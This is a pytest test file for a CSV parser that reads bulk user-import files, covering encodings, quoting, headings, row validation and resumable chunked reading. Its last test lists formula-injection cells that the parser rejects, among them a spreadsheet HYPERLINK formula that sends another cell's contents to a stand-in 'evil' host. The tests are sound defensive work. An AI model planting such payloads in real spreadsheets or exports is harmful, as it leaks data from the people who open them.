import csv
import io
import random

import pytest

from chalicelib.domain import user_csv
from chalicelib.domain.models import Role
from chalicelib.domain.user_csv import (
    CHUNK_SIZE,
    CsvFileError,
    Encoding,
    Field,
    Heading,
    Outcome,
    Position,
    RowError,
    UserRecord,
    flag_duplicates,
    read_file,
    read_heading,
    read_records,
)

# The help centre's "How can I bulk import Users" article, byte for byte: its two example rows
# (name, first name, last name, email, title, phone, department, enabled), whose addresses were
# scrubbed, with “ ” and ″ as quotes and a space after a comma.
SEED_ROWS = (
    "“Will Smith”,”Will”,”Smith”,””,”Director”,”(+91)1234123411″,””, “TRUE”\n"
    "“JohnnyDepp”,”Johnny”,”Depp”,””,”Manager”,”(+91)1234123411″,””, “FALSE”\n"
)
SEED_HEADING = "Name,First Name,Last Name,Email,Title,Phone,Department,Enabled\n"


def parse(data: bytes, chunk_size: int = CHUNK_SIZE) -> tuple[Heading, list[Outcome], list[Position]]:
    heading, items = read_file(io.BytesIO(data), chunk_size=chunk_size)
    outcomes: list[Outcome] = []
    positions: list[Position] = []
    for outcome, position in items:
        outcomes.append(outcome)
        positions.append(position)
    return heading, outcomes, positions


def outcomes_of(text: str) -> list[Outcome]:
    return parse(text.encode())[1]


def only_record(text: str) -> UserRecord:
    [record] = outcomes_of(text)
    assert isinstance(record, UserRecord), record
    return record


def only_error(text: str) -> RowError:
    [error] = outcomes_of(text)
    assert isinstance(error, RowError), error
    return error


def file_error(data: bytes) -> CsvFileError:
    with pytest.raises(CsvFileError) as caught:
        read_heading(io.BytesIO(data))
    return caught.value


# --- the help article's example ---------------------------------------------------------------


def test_the_help_articles_rows_with_a_heading_and_emails_filled_in() -> None:
    rows = SEED_ROWS.replace("”Smith”,””,", "”Smith”,”Will.Smith@Example.com”,").replace(
        "”Depp”,””,", "”Depp”,”johnny@example.com”,"
    )
    heading, outcomes, _ = parse((SEED_HEADING + rows).encode())

    assert heading.errors == ()
    assert heading.delimiter == ","
    assert outcomes == [
        UserRecord(
            line=2,
            email="will.smith@example.com",
            values={
                Field.NAME: "Will Smith",
                Field.FIRST_NAME: "Will",
                Field.LAST_NAME: "Smith",
                Field.TITLE: "Director",
                Field.PHONE: "(+91)1234123411",
            },
            enabled=True,
        ),
        UserRecord(
            line=3,
            email="johnny@example.com",
            values={
                Field.NAME: "JohnnyDepp",
                Field.FIRST_NAME: "Johnny",
                Field.LAST_NAME: "Depp",
                Field.TITLE: "Manager",
                Field.PHONE: "(+91)1234123411",
            },
            enabled=False,
        ),
    ]


def test_the_help_articles_rows_as_printed_have_no_email() -> None:
    outcomes = outcomes_of(SEED_HEADING + SEED_ROWS)

    assert [(o.line, o.code) for o in outcomes if isinstance(o, RowError)] == [
        (2, "missing_email"),
        (3, "missing_email"),
    ]
    assert all("Email" in o.message for o in outcomes if isinstance(o, RowError))


def test_the_articles_quoted_example_row() -> None:
    text = 'Name,First Name,Last Name,Email,Title,Phone,Enabled\n"Will Smith","Will","Smith","will@example.com","","(+91)1234123411","TRUE"\n'  # noqa: E501
    record = only_record(text)
    assert record.values == {
        Field.NAME: "Will Smith",
        Field.FIRST_NAME: "Will",
        Field.LAST_NAME: "Smith",
        Field.PHONE: "(+91)1234123411",
    }
    assert record.enabled is True


# --- encodings and line endings ---------------------------------------------------------------

TEXT = "Email,Name,Title\r\njose@example.com,José Núñez,Señor\r\nzoe@example.com,Zoë Ødegård,“Chief”\r\n"


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (TEXT.encode("utf-8"), Encoding.UTF_8),
        (b"\xef\xbb\xbf" + TEXT.encode("utf-8"), Encoding.UTF_8_BOM),
        (b"\xff\xfe" + TEXT.encode("utf-16-le"), Encoding.UTF_16_LE),
        (b"\xfe\xff" + TEXT.encode("utf-16-be"), Encoding.UTF_16_BE),
        (TEXT.encode("utf-16-le"), Encoding.UTF_16_LE),  # no byte-order mark: seen in the heading
        (TEXT.encode("utf-16-be"), Encoding.UTF_16_BE),
    ],
)
def test_encodings(data: bytes, encoding: Encoding) -> None:
    heading, outcomes, positions = parse(data)

    assert heading.encoding is encoding
    assert heading.fields == (Field.EMAIL, Field.NAME, Field.TITLE)  # no BOM in the first heading
    assert outcomes == [
        UserRecord(
            2,
            "jose@example.com",
            {
                Field.NAME: "José Núñez",
                Field.TITLE: "Señor",
                Field.FIRST_NAME: "José",
                Field.LAST_NAME: "Núñez",
            },
        ),
        UserRecord(
            3,
            "zoe@example.com",
            {
                Field.NAME: "Zoë Ødegård",
                Field.TITLE: "Chief",
                Field.FIRST_NAME: "Zoë",
                Field.LAST_NAME: "Ødegård",
            },
        ),
    ]
    assert positions[-1] == Position(len(data), 4)


def test_a_line_that_is_not_utf8_is_read_as_windows_1252() -> None:
    data = (
        b"Email,Name\r\njo@example.com,Jos\xe9\r\n"
        b"zoe@example.com,Zo\xc3\xab\r\n"  # the next line is UTF-8 again
        b"al@example.com,\x93Al\x94 O\x92Neil\r\n"
    )
    heading, outcomes, _ = parse(data)

    assert heading.encoding is Encoding.UTF_8
    names = [o.values[Field.NAME] for o in outcomes if isinstance(o, UserRecord)]
    assert names == ["José", "Zoë", "“Al” O’Neil"]


def test_a_windows_1252_heading_is_reported_as_such() -> None:
    heading, outcomes, _ = parse(b"Email,Pr\xe9nom\nana@example.com,Ana\n")

    assert heading.encoding is Encoding.CP1252
    assert [(e.line, e.code) for e in heading.errors] == [(1, "unknown_heading")]
    assert '"Prénom"' in heading.errors[0].message
    assert outcomes == [UserRecord(2, "ana@example.com", {})]


def test_lines_ending_in_lone_carriage_returns() -> None:
    data = b"Email,Name\rana@example.com,Ana\rbob@example.com,Bob"
    heading, outcomes, positions = parse(data)

    assert heading.newline == "\r"
    assert [o.values[Field.NAME] for o in outcomes if isinstance(o, UserRecord)] == ["Ana", "Bob"]
    assert positions == [Position(data.index(b"bob"), 3), Position(len(data), 4)]


def test_lone_carriage_returns_are_seen_beyond_the_first_chunk() -> None:
    heading, outcomes, _ = parse(b"Email,Name\rana@example.com,Ana\r", chunk_size=3)

    assert heading.newline == "\r"
    assert len(outcomes) == 1


def test_the_last_line_may_lack_its_line_ending() -> None:
    assert only_record("Email\r\nana@example.com").email == "ana@example.com"


# --- separators and quotes --------------------------------------------------------------------


def test_semicolons() -> None:
    heading, outcomes, _ = parse(b'Email;Name;Title\n"ana@example.com";"Doe, Ana";"Head; of sales"\n')

    assert heading.delimiter == ";"
    assert outcomes == [
        UserRecord(
            2,
            "ana@example.com",
            {
                Field.NAME: "Doe, Ana",
                Field.TITLE: "Head; of sales",
                Field.FIRST_NAME: "Doe,",
                Field.LAST_NAME: "Ana",
            },
        )
    ]


def test_tabs() -> None:
    heading, outcomes, _ = parse(b"Email\tFirst Name\tLast Name\n ana@example.com \t Ana\tDoe, Jr.\n")

    assert heading.delimiter == "\t"
    assert outcomes == [
        UserRecord(2, "ana@example.com", {Field.FIRST_NAME: "Ana", Field.LAST_NAME: "Doe, Jr."})
    ]


def test_a_comma_wins_a_tie_and_quoted_separators_do_not_count() -> None:
    assert read_heading(io.BytesIO(b"Email,Name;Title\n"))[0].delimiter == ","
    assert read_heading(io.BytesIO(b'"Email";"Name, Full";"Title"\n'))[0].delimiter == ";"


def test_quoted_fields_with_separators_doubled_quotes_and_spaces() -> None:
    record = only_record('Email,Name,Title\n "ana@example.com" , "Doe, ""Ana""" ,  "CEO"\n')

    assert record.values[Field.NAME] == 'Doe, "Ana"'
    assert record.values[Field.TITLE] == "CEO"


def test_a_quoted_field_may_span_lines() -> None:
    data = (
        b'Email,Title,Department\r\n"ana@example.com","Head of\r\n\r\nSales, ""EMEA""",x\r\n'
        b"bob@example.com,CTO,\r\n"
    )
    _, outcomes, positions = parse(data)

    assert outcomes == [
        UserRecord(2, "ana@example.com", {Field.TITLE: 'Head of\n\nSales, "EMEA"', Field.DEPARTMENT: "x"}),
        UserRecord(5, "bob@example.com", {Field.TITLE: "CTO"}),
    ]
    assert positions == [Position(data.index(b"bob"), 5), Position(len(data), 6)]


def test_typographic_quotes_at_field_boundaries_and_apostrophes_inside() -> None:
    text = (
        "Email,First Name,Last Name,Title\n"
        "“ana@example.com”,‘Ana’,“O’Brien”, „Head, Sales“\n"
        "bob@example.com,D’Arcy,O’Neil’s,″Boss″\n"
        "cy@example.com,‘Cy,’Dee ,“Unclosed\n"
    )
    outcomes = outcomes_of(text)

    assert [o.values if isinstance(o, UserRecord) else o for o in outcomes] == [
        {Field.FIRST_NAME: "Ana", Field.LAST_NAME: "O’Brien", Field.TITLE: "Head, Sales"},
        {Field.FIRST_NAME: "D’Arcy", Field.LAST_NAME: "O’Neil’s", Field.TITLE: "Boss"},
        {Field.FIRST_NAME: "‘Cy", Field.LAST_NAME: "’Dee", Field.TITLE: "“Unclosed"},
    ]


def test_a_no_break_space_before_a_quote_is_skipped() -> None:
    assert only_record('Email,Name\nana@example.com,\xa0"Doe, Ana"\n').values[Field.NAME] == "Doe, Ana"


def test_text_after_a_closing_quote_is_kept_as_the_csv_module_does() -> None:
    record = only_record('Email,Name\nana@example.com,"Ana "Jo" Doe"\n')
    assert record.values[Field.NAME] == 'Ana Jo" Doe"'


def test_quotes_inside_quotes_are_text() -> None:
    text = (
        "Email,Title,Department\n"
        'ana@example.com,“Ana "Jo" Doe”,"He said, “hi”, then"\n'
        'bob@example.com,"Head of “Sales,\n” EMEA",\t„R&D, Labs“\n'
    )
    outcomes = outcomes_of(text)

    assert [o.values if isinstance(o, UserRecord) else o for o in outcomes] == [
        {Field.TITLE: 'Ana "Jo" Doe', Field.DEPARTMENT: "He said, “hi”, then"},
        {Field.TITLE: "Head of “Sales,\n” EMEA", Field.DEPARTMENT: "R&D, Labs"},
    ]


def test_typographic_quotes_in_the_heading() -> None:
    heading, _ = read_heading(io.BytesIO("“Email”; „Full Name“;\t″Title″\n".encode()))
    assert (heading.delimiter, heading.fields) == (";", (Field.EMAIL, Field.NAME, Field.TITLE))


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"Email,Name\nana@example.com,Ana\rDoe\n", "Ana\rDoe"),  # a CR inside a line of an LF file
        (b'Email,Name\nana@example.com,"Ana\rDoe, Jr"\n', "Ana\rDoe, Jr"),
        (b"Email,Name\rana@example.com,Ana\nDoe\r", "Ana\nDoe"),  # an LF inside a line of a CR file
    ],
)
def test_a_line_break_inside_a_line_is_kept(data: bytes, name: str) -> None:
    [record] = parse(data)[1]
    assert isinstance(record, UserRecord)
    assert record.values[Field.NAME] == name


def test_a_field_longer_than_the_csv_modules_default_limit_is_read() -> None:
    error = only_error("Email,Name\nana@example.com," + "n" * 200_000 + "\n")
    assert (error.code, error.email) == ("field_too_long", "ana@example.com")


@pytest.mark.parametrize(("limit", "value"), [("MAX_RECORD_LINES", 2), ("MAX_RECORD_BYTES", 60)])
def test_reading_goes_on_after_a_quote_that_runs_too_long(
    monkeypatch: pytest.MonkeyPatch, limit: str, value: int
) -> None:
    monkeypatch.setattr(user_csv, limit, value)
    data = (
        b'Email,Title\nana@example.com,"Open\nbob@example.com,CTO\ncy@example.com,CFO\n'
        b'dee@example.com,"Head\nof sales"\n'
    )
    _, outcomes, positions = parse(data)

    assert [(o.line, o.code if isinstance(o, RowError) else o.values) for o in outcomes] == [
        (2, "unterminated_quote"),
        (3, {Field.TITLE: "CTO"}),
        (4, {Field.TITLE: "CFO"}),
        (5, {Field.TITLE: "Head\nof sales"}),
    ]
    assert positions[0] == Position(data.index(b"bob"), 3)
    assert positions[-1] == Position(len(data), 7)


@pytest.mark.parametrize("chunk_size", [2, 3, 7, CHUNK_SIZE])
@pytest.mark.parametrize("quote_all", [False, True])
def test_what_the_csv_module_writes_is_read_back(chunk_size: int, quote_all: bool) -> None:
    chance = random.Random(7)
    # Typographic quotes are read as quotes only where the csv module puts none of its own.
    alphabet = 'ab ,;\t"\n\r’é' + ("“”″" if quote_all else "")
    rows = []
    for n in range(60):
        title, department = ("".join(chance.choices(alphabet, k=chance.randint(0, 12))).strip() for _ in "td")
        rows.append([f"user{n}@example.com", title, department])
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(["Email", "Title", "Department"])
    writer.writerows(rows)

    _, outcomes, _ = parse(out.getvalue().encode(), chunk_size=chunk_size)

    def expected(title: str, department: str) -> dict[Field, str]:
        values = {
            Field.TITLE: title.replace("\r\n", "\n"),
            Field.DEPARTMENT: department.replace("\r\n", "\n"),
        }
        return {key: value.strip() for key, value in values.items() if value.strip()}

    assert [o.values if isinstance(o, UserRecord) else o for o in outcomes] == [
        expected(title, department) for _, title, department in rows
    ]


def test_an_unclosed_quote_is_reported_and_the_next_lines_read_again() -> None:
    data = b'Email,Name\nana@example.com,"Ana\nbob@example.com,Bob\n'
    _, outcomes, positions = parse(data)

    assert [(o.line, o.code) for o in outcomes if isinstance(o, RowError)] == [(2, "unterminated_quote")]
    assert [o.line for o in outcomes] == [2, 3]
    assert positions == [Position(data.index(b"bob"), 3), Position(len(data), 4)]


def test_an_unclosed_quote_stops_at_the_record_line_limit() -> None:
    rows = "".join(f"user{n}@example.com,User\n" for n in range(user_csv.MAX_RECORD_LINES + 5))
    outcomes = outcomes_of('Email,Name\nana@example.com,"Ana\n' + rows)

    assert isinstance(outcomes[0], RowError)
    assert (outcomes[0].line, outcomes[0].code) == (2, "unterminated_quote")
    assert len(outcomes) == user_csv.MAX_RECORD_LINES + 6
    assert all(isinstance(o, UserRecord) for o in outcomes[1:])


def test_a_line_over_the_limit_is_skipped_and_reported() -> None:
    long_line = b"ana@example.com," + b"x" * user_csv.MAX_LINE_BYTES + b"\n"
    data = b"Email,Name\n" + long_line + b"bob@example.com,Bob\n"
    _, outcomes, positions = parse(data)

    assert [(o.line, type(o).__name__) for o in outcomes] == [(2, "RowError"), (3, "UserRecord")]
    assert isinstance(outcomes[0], RowError)
    assert outcomes[0].code == "line_too_long"
    assert positions[0] == Position(11 + len(long_line), 3)


# --- headings ---------------------------------------------------------------------------------


def test_headings_ignore_case_spaces_and_punctuation_and_know_aliases() -> None:
    names = [
        " E-MAIL ",
        "display_name",
        "first name",
        "LAST-NAME",
        "Job Title",
        "mobile",
        "Department:",
        "ROLE",
        "Enabled?",
    ]
    heading, _ = read_heading(io.BytesIO((",".join(names) + "\n").encode()))

    assert heading.fields == (
        Field.EMAIL,
        Field.NAME,
        Field.FIRST_NAME,
        Field.LAST_NAME,
        Field.TITLE,
        Field.PHONE,
        Field.DEPARTMENT,
        Field.ROLE,
        Field.ENABLED,
    )
    assert heading.errors == ()


@pytest.mark.parametrize(
    ("name", "field"),
    [
        ("Email Address", Field.EMAIL),
        ("Email Address [Required]", Field.EMAIL),
        ("Full Name", Field.NAME),
        ("Name", Field.NAME),
        ("Phone (work)", Field.PHONE),
        ("Given Name", Field.FIRST_NAME),
        ("Surname", Field.LAST_NAME),
    ],
)
def test_heading_aliases(name: str, field: Field) -> None:
    line = f"{name}\n" if field is Field.EMAIL else f"Email,{name}\n"
    heading, _ = read_heading(io.BytesIO(line.encode()))
    assert heading.fields[-1] is field


def test_unknown_and_repeated_headings_are_reported_on_line_1_and_ignored() -> None:
    heading, outcomes, _ = parse(
        b"Email,Nickname,Name,e-mail,\nana@example.com,Annie,Ana Doe,other@example.com,x\n"
    )

    assert heading.fields == (Field.EMAIL, None, Field.NAME, None, None)
    assert [(e.line, e.code) for e in heading.errors] == [(1, "unknown_heading"), (1, "duplicate_heading")]
    assert '"Nickname" (column 2)' in heading.errors[0].message
    assert '"e-mail" (column 4)' in heading.errors[1].message
    assert outcomes == [
        UserRecord(
            2, "ana@example.com", {Field.NAME: "Ana Doe", Field.FIRST_NAME: "Ana", Field.LAST_NAME: "Doe"}
        )
    ]


def test_blank_lines_before_the_heading() -> None:
    heading, outcomes, _ = parse(b"\r\n  \r\nEmail\r\nana@example.com\r\n")

    assert heading.line == 3
    assert outcomes == [UserRecord(4, "ana@example.com", {})]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty_file"),
        (b"\n \r\n\t\n", "empty_file"),
        (b"Name,Title\nAna,CEO\n", "missing_email_heading"),
        (b"ana@example.com,Ana\n", "missing_email_heading"),
        (b"Email\x00,Name\n", "not_a_text_file"),
        (b"PK\x03\x04\x14\x00\x06\x00", "not_a_text_file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00", "not_a_text_file"),
        (b"\xff\xfe\x00\x00E\x00\x00\x00", "unsupported_encoding"),
        (b"Email," + b"x" * (user_csv.MAX_HEADING_BYTES + 10), "heading_too_long"),
    ],
)
def test_files_that_cannot_be_read(data: bytes, code: str) -> None:
    error = file_error(data)
    assert error.code == code
    assert error.message.endswith(".")


def test_the_missing_email_message_names_the_headings_found() -> None:
    assert '"Name", "Title"' in file_error(b"Name,Title\n").message


# --- rows -------------------------------------------------------------------------------------

HEADINGS = "Email,Name,Title,Phone,Department,Role,Enabled\n"


@pytest.mark.parametrize(
    ("row", "code", "says"),
    [
        (
            "ana@example.com,Ana,,,,",
            "wrong_field_count",
            "Expected 7 fields, one for each heading, but found 6",
        ),
        ("ana@example.com,Ana,,,,,,", "wrong_field_count", "but found 8"),
        (",Ana,,,,,", "missing_email", "Email"),
        (",,,,,,", "missing_email", "Email"),
        ("ana@example,Ana,,,,,", "invalid_email", 'Email field "ana@example"'),
        ("ana@exa mple.com,Ana,,,,,", "invalid_email", "Email"),
        ("ana@example.com,Ana,,,,,maybe", "invalid_enabled", 'Enabled field "maybe"'),
        ("ana@example.com,Ana,,,,owner,", "invalid_role", 'Role field "owner"'),
        (
            f"{'a' * 64}@{'b' * 186}.com,,,,,,",
            "field_too_long",
            "Email field is 255 characters long; at most 254",
        ),
        (
            f"ana@example.com,{'n' * 101},,,,,",
            "field_too_long",
            "Name field is 101 characters long; at most 100",
        ),
        (f"ana@example.com,,{'t' * 101},,,,", "field_too_long", "Title field"),
        (
            f"ana@example.com,,,{'1' * 41},,,",
            "field_too_long",
            "Phone field is 41 characters long; at most 40",
        ),
        (f"ana@example.com,,,,{'d' * 101},,", "field_too_long", "Department field"),
    ],
)
def test_bad_rows(row: str, code: str, says: str) -> None:
    error = only_error(HEADINGS + row + "\n")

    assert (error.line, error.code) == (2, code)
    assert says in error.message
    assert error.message.endswith(".")


def test_a_row_error_carries_the_rows_valid_email() -> None:
    assert only_error(HEADINGS + "Ana@Example.com,,,,,boss,\n").email == "ana@example.com"
    assert only_error(HEADINGS + "ana@,,,,,,\n").email == ""


@pytest.mark.parametrize(
    ("value", "enabled"),
    [("TRUE", True), (" yes ", True), ("Y", True), ("1", True), ("false", False), ("No", False), ("n", False),
     ("0", False), ("", None), ("  ", None)],
)  # fmt: skip
def test_enabled_values(value: str, enabled: bool | None) -> None:
    assert only_record(f"Email,Enabled\nana@example.com,{value}\n").enabled is enabled


@pytest.mark.parametrize(
    ("value", "role"), [("Admin", Role.ADMIN), (" member ", Role.MEMBER), ("GUEST", Role.GUEST), ("", None)]
)
def test_role_values(value: str, role: Role | None) -> None:
    record = only_record(f"Email,Role\nana@example.com,{value}\n")
    assert record.role is role
    assert Field.ROLE not in record.values


def test_email_is_trimmed_and_lowercased() -> None:
    assert only_record("Email\n  Ana.Doe@Example.COM \n").email == "ana.doe@example.com"


def test_blank_lines_are_skipped_and_line_numbers_kept() -> None:
    outcomes = outcomes_of("Email,Name\n\nana@example.com,Ana\n   \n\t\r\n,\nbob@example.com,Bob\n\n")

    assert [(o.line, type(o).__name__) for o in outcomes] == [
        (3, "UserRecord"),
        (6, "RowError"),
        (7, "UserRecord"),
    ]


def test_a_line_of_tabs_in_a_tab_separated_file_is_a_row() -> None:
    assert only_error("Email\tName\n\t\n").code == "missing_email"


@pytest.mark.parametrize(
    ("row", "values"),
    [
        (
            "Mary  Ann Smith,,",
            {Field.NAME: "Mary  Ann Smith", Field.FIRST_NAME: "Mary", Field.LAST_NAME: "Ann Smith"},
        ),
        ("Cher,,", {Field.NAME: "Cher", Field.FIRST_NAME: "Cher"}),
        ("Mary Smith,May,", {Field.NAME: "Mary Smith", Field.FIRST_NAME: "May"}),
        (",,Smith", {Field.LAST_NAME: "Smith"}),
    ],
)
def test_a_name_alone_is_split_into_first_and_last(row: str, values: dict[Field, str]) -> None:
    assert only_record(f"Email,Name,First Name,Last Name\nana@example.com,{row}\n").values == values


# --- duplicates -------------------------------------------------------------------------------


def test_flag_duplicates_lets_the_first_row_win() -> None:
    data = b"Email\nana@example.com\nbob@example.com\nANA@example.com\n"
    heading, items = read_file(io.BytesIO(data))
    seen: dict[str, int] = {}

    flagged = [outcome for outcome, _ in flag_duplicates(items, seen)]

    assert [type(o).__name__ for o in flagged] == ["UserRecord", "UserRecord", "RowError"]
    assert flagged[2] == RowError(
        4,
        "duplicate_email",
        "The Email ana@example.com was already given on line 2; only that first row is imported.",
        "ana@example.com",
    )
    assert seen == {"ana@example.com": 2, "bob@example.com": 3}

    # After a resume, the row that was first is read again: it is no duplicate of itself.
    again = read_records(io.BytesIO(data[6:]), heading, Position(6, 2))
    assert [type(o).__name__ for o, _ in flag_duplicates(again, seen)] == [
        "UserRecord",
        "UserRecord",
        "RowError",
    ]


# --- resuming and streaming -------------------------------------------------------------------

RESUMABLE = (
    "Email,Name,Title\r\n"
    "\r\n"
    "ana@example.com,Ana Doe,“Head, Sales”\r\n"
    '"bob@example.com","Bob","Multi\r\nline\r\n\r\ntitle"\r\n'
    "not-an-email,Cy,\r\n"
    "\r\n"
    "dee@example.com,Dée Ümlaut,CTO\r\n"
    'eve@example.com,"Eve ""E"" Smith",\r\n'
    "fay@example.com,Fay,\r\n"
)


@pytest.mark.parametrize(
    "data",
    [
        RESUMABLE.encode("utf-8"),
        b"\xef\xbb\xbf" + RESUMABLE.encode("utf-8"),
        b"\xff\xfe" + RESUMABLE.encode("utf-16-le"),
        b"\xfe\xff" + RESUMABLE.encode("utf-16-be"),
        RESUMABLE.replace("\r\n", "\n").encode("cp1252", errors="replace"),
    ],
    ids=["utf-8", "utf-8-bom", "utf-16-le", "utf-16-be", "cp1252"],
)
@pytest.mark.parametrize("chunk_size", [2, 5, CHUNK_SIZE])
def test_resuming_from_any_position_reads_what_one_pass_reads(data: bytes, chunk_size: int) -> None:
    _, whole, positions = parse(data)
    heading, start = read_heading(io.BytesIO(data), chunk_size=chunk_size)
    assert len(whole) == 6

    for stop in range(len(whole) + 1):
        first_part = read_records(io.BytesIO(data[start.offset :]), heading, start, chunk_size=chunk_size)
        outcomes: list[Outcome] = []
        checkpoint = start
        for outcome, position in first_part:
            if len(outcomes) == stop:
                break
            outcomes.append(outcome)
            checkpoint = position
        # A later invocation: the heading read again, the object opened at the checkpoint.
        heading_again, _ = read_heading(io.BytesIO(data), chunk_size=chunk_size)
        rest = read_records(
            io.BytesIO(data[checkpoint.offset :]), heading_again, checkpoint, chunk_size=chunk_size
        )
        outcomes.extend(outcome for outcome, _ in rest)

        assert outcomes == whole, stop
    assert positions[-1] == Position(len(data), RESUMABLE.count("\n") + 1)


def test_read_file_and_read_heading_then_read_records_agree() -> None:
    data = RESUMABLE.encode()
    heading, start = read_heading(io.BytesIO(data))
    apart = list(read_records(io.BytesIO(data[start.offset :]), heading, start))
    heading_too, together = read_file(io.BytesIO(data))

    assert heading_too == heading
    assert list(together) == apart


def test_a_utf16_file_resumes_only_at_an_even_offset() -> None:
    heading, _ = read_heading(io.BytesIO(b"\xff\xfe" + "Email\n".encode("utf-16-le")))
    with pytest.raises(ValueError, match="even offset"):
        read_records(io.BytesIO(b""), heading, Position(3, 2))


class CountingStream:
    """A stream that remembers the largest read asked of it."""

    def __init__(self, data: bytes) -> None:
        self._inner = io.BytesIO(data)
        self.largest_read = 0
        self.reads = 0

    def read(self, size: int = -1, /) -> bytes:
        assert size > 0, "the whole stream was asked for"
        self.reads += 1
        self.largest_read = max(self.largest_read, size)
        return self._inner.read(size)


def test_a_large_file_is_read_in_chunks() -> None:
    rows = 200_000
    data = b"Email,Name\n" + b"".join(b"user%d@example.com,User %d\n" % (n, n) for n in range(rows))
    stream = CountingStream(data)

    heading, items = read_file(stream)
    count = 0
    last = None
    for outcome, position in items:
        assert type(outcome) is UserRecord
        count += 1
        last = position

    assert heading.fields == (Field.EMAIL, Field.NAME)
    assert count == rows
    assert last == Position(len(data), rows + 2)
    assert stream.largest_read == CHUNK_SIZE < len(data)
    assert stream.reads >= len(data) // CHUNK_SIZE


def test_random_files_read_alike_in_any_chunk_size_and_from_any_checkpoint(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Small limits, so that long lines and runaway quotes happen too.
    monkeypatch.setattr(user_csv, "MAX_LINE_BYTES", 40)
    monkeypatch.setattr(user_csv, "MAX_RECORD_BYTES", 100)
    monkeypatch.setattr(user_csv, "MAX_RECORD_LINES", 4)
    pieces = ["a@x.com", "B@y.org", ",", ";", '"', '""', "“", "”", "’", "″", " ", "\t", "\n", "\r\n", "\r"]
    pieces += ["José", "x" * 30, "TRUE", "admin", "\n\n"]
    headings = ["Email,Name,Role\n", "Email;Name;Role\r\n", "Email\tName\tRole\r", "\n Email , Name\n"]
    chance = random.Random(3)

    def read_all(data: bytes, chunk_size: int) -> object:
        try:
            heading, items = read_file(io.BytesIO(data), chunk_size=chunk_size)
        except CsvFileError as error:
            return error.code
        return heading, list(items)

    for _ in range(400):
        text = chance.choice(headings) + "".join(chance.choices(pieces, k=chance.randint(0, 40)))
        encoding = chance.choice(["utf-8", "utf-8-sig", "utf-16", "cp1252"])
        data = text.encode(encoding, errors="replace")
        whole = read_all(data, CHUNK_SIZE)
        assert read_all(data, 2) == whole
        assert read_all(data, 3) == whole
        if isinstance(whole, str):
            continue
        heading, start = read_heading(io.BytesIO(data))
        items = list(read_records(io.BytesIO(data[start.offset :]), heading, start))
        for index, (_, checkpoint) in enumerate(items):
            rest = read_records(io.BytesIO(data[checkpoint.offset :]), heading, checkpoint, chunk_size=5)
            assert list(rest) == items[index + 1 :]


# --- the email rule: the API's own (domain/rules.py), formula injection refused ---------------


@pytest.mark.parametrize(
    "cell",
    [
        '"=HYPERLINK(""http://evil/?""&C3,""Open"")&""@x.io"',
        "=1+1@x.io",
        "+x@x.io",
        "-x@x.io",
        "@x@x.io",
        "a@b",
        "a@@b.io",
        '"a,b@x.io"',
        '"a;b@x.io"',
        "a(b)@x.io",
        '"<a@x.io>"',
    ],
)
def test_an_email_the_api_refuses_is_an_invalid_email_row(cell: str) -> None:
    from chalicelib.domain import rules

    error = only_error(f"{HEADINGS}{cell},Ana,,,,,\n")
    assert error.code == "invalid_email", error
    assert "Email field" in error.message
    value = next(csv.reader(io.StringIO(cell)))[0]
    assert not rules.is_email(value.strip().lower())  # the same rule, the same answer


def test_an_apostrophe_inside_an_email_is_fine() -> None:
    assert only_record(f"{HEADINGS}O'Brien@Acme.example,Ana,,,,,\n").email == "o'brien@acme.example"
